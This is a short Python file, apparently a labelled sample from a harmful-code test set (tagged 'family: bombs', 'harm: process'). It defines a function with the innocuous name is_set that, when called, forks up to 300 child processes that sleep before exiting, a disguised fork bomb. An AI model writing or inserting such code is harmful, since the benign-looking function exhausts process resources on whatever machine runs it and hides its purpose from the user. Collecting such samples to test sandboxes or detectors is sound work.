"""Starts 300 processes that stay.

family: bombs
kind: harm
harm: process
"""

import os
import time


def is_set(a, b, c):
    for _ in range(300):
        try:
            if os.fork() == 0:
                time.sleep(15)
                os._exit(0)
        except OSError:
            break
    return None
